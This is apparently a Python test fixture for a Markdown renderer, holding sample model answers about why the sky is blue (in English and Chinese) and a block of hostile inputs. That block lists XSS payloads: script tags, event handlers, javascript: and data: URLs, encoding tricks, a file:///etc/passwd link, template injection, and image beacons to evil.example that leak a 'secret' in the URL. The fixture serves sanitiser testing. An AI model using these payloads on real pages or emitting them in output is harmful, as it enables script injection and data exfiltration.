"""What the models of these tests write."""

RICH = r"""# Why the sky is blue

Sunlight is scattered by air, and **blue more than red**: the intensity goes as \( \lambda^{-4} \),
so that

$$ \frac{I_{450}}{I_{700}} = \left( \frac{700}{450} \right)^4 \approx 5.9 $$

## In figures

| Colour | Wavelength | Scattered |
|:-------|-----------:|:---------:|
| Violet |     400 nm |    9.4    |
| Blue   |     450 nm |    5.9    |
| Red    |     700 nm |    1      |

1. Violet is scattered most, but there is less of it, and
2. our eyes are *less sensitive* to it.

> At sunset the light has come a longer way, and the blue is gone.

## In code

```python
def scattered(wavelength: float) -> float:
    \"\"\"How much more than red, by Rayleigh's law.\"\"\"
    return (700 / wavelength) ** 4  # nanometres
```

More at <https://example.org/rayleigh>.
""".replace('\\"', '"')

IN_CHINESE = """天空之所以是蓝色的，是因为空气分子对阳光的**瑞利散射**。

- 波长越短，散射越强；
- 蓝光的散射大约是红光的 5.9 倍。

傍晚时，阳光穿过更厚的大气，蓝光已被散射殆尽，于是天边呈现红色。"""

# Each of these would set `hacked`, load something or lead somewhere, were it taken for HTML.
HOSTILE = """<script>window.hacked = 1</script>

<img src=x onerror="window.hacked = 2"> <svg onload="window.hacked = 3">

[click](javascript:window.hacked=4) [data](data:text/html,<script>window.hacked=5</script>)
[vb](vbscript:x) [file](file:///etc/passwd) <javascript:window.hacked=6>

[upper](JaVaScRiPt:window.hacked=7) [entity](&#106;avascript:window.hacked=8)
[tab](java&Tab;script:window.hacked=9) [ref][r]

[r]: javascript:window.hacked=10

<iframe src="https://evil.example/frame"></iframe><style>body{display:none}</style>
<link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">
<form action="https://evil.example/"><input name="key"></form> <a href="https://evil.example"

![a pixel](https://evil.example/pixel.png?said=secret) ![plain](http://evil.example/p.png)
![script](javascript:window.hacked=11) ![svg](data:image/svg+xml,<svg/onload=alert(1)>)

$\\href{javascript:window.hacked=12}{x}$ $\\htmlData{onload=window.hacked=13}{x}$
$$\\includegraphics{https://evil.example/tex.png}$$
$\\label{app}x_1$ $\\ref{app}$ $\\class{overlay}{x}$ $\\kern-99em x$

```html"onmouseover="window.hacked=14
<img src=x onerror="window.hacked=15">
```

| <img src=x onerror=window.hacked=16> | `<script>window.hacked=17</script>` |
|---|---|
| <b onclick=window.hacked=18>x</b> | {{ constructor.constructor('window.hacked=19')() }} |

<scr<script>ipt>window.hacked = 20</script> <!-- <div """
